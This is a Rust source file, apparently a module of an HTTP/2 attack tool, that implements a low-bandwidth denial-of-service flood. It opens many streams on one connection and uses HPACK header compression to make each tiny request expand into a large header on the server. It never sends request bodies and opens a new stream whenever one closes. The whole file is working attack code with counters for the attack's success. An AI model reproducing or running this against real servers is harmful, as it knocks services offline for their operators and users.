//! An attack that holds many requests with few bytes: HTTP/2 streams whose heads are large by the table of header compression, and
//! whose bodies never come.

use std::io;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::Ordering;

use rustls::ClientConfig;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt, split};
use tokio::time::Instant;

use super::attacker::Attack;
use super::floods;

const STREAMS: u32 = 100;
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;

/// One connection with as many streams as it may have, and another one for each that is ended.
pub async fn hold(attack: &Attack, from: Ipv4Addr, tls: &Arc<ClientConfig>) -> io::Result<()> {
    let (mut read, mut write) = split(floods::h2(attack, from, tls).await?);
    let began = Instant::now();
    write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    write.write_all(&floods::frame(SETTINGS, 0, 0, &[])).await?;
    let first: Vec<u8> = (0..STREAMS).flat_map(open).collect();
    write.write_all(&first).await?;
    write.flush().await?;
    let mut opened = STREAMS;
    attack.sent.fetch_add(STREAMS.into(), Ordering::Relaxed);
    while let Ok((kind, flags)) = frame(&mut read).await {
        let ended = kind == RST_STREAM || [DATA, HEADERS].contains(&kind) && flags & END_STREAM != 0;
        let next = match kind {
            SETTINGS if flags & ACK == 0 => floods::frame(SETTINGS, ACK, 0, &[]),
            _ if ended && !attack.is_over() => {
                opened += 1;
                attack.count(&attack.sent);
                attack.count(&attack.answered);
                open(opened - 1)
            }
            _ => continue,
        };
        write.write_all(&next).await?;
        write.flush().await?;
    }
    attack.lived(began.elapsed());
    Ok(())
}

/// A stream. The first one puts an entry of 4 KB into the table, and all others name it seven times.
fn open(number: u32) -> Vec<u8> {
    let mut block = floods::head();
    if number == 0 {
        block.extend([&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'a'; 4000]].concat());
    } else {
        block.extend([0xbe; 7]);
    }
    floods::frame(HEADERS, 4, number * 2 + 1, &block)
}

/// Kind and flags of the next frame.
async fn frame(read: &mut (impl AsyncRead + Unpin)) -> io::Result<(u8, u8)> {
    let mut head = [0; 9];
    read.read_exact(&mut head).await?;
    let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
    let mut payload = vec![0; length as usize];
    read.read_exact(&mut payload).await?;
    Ok((head[3], head[4]))
}
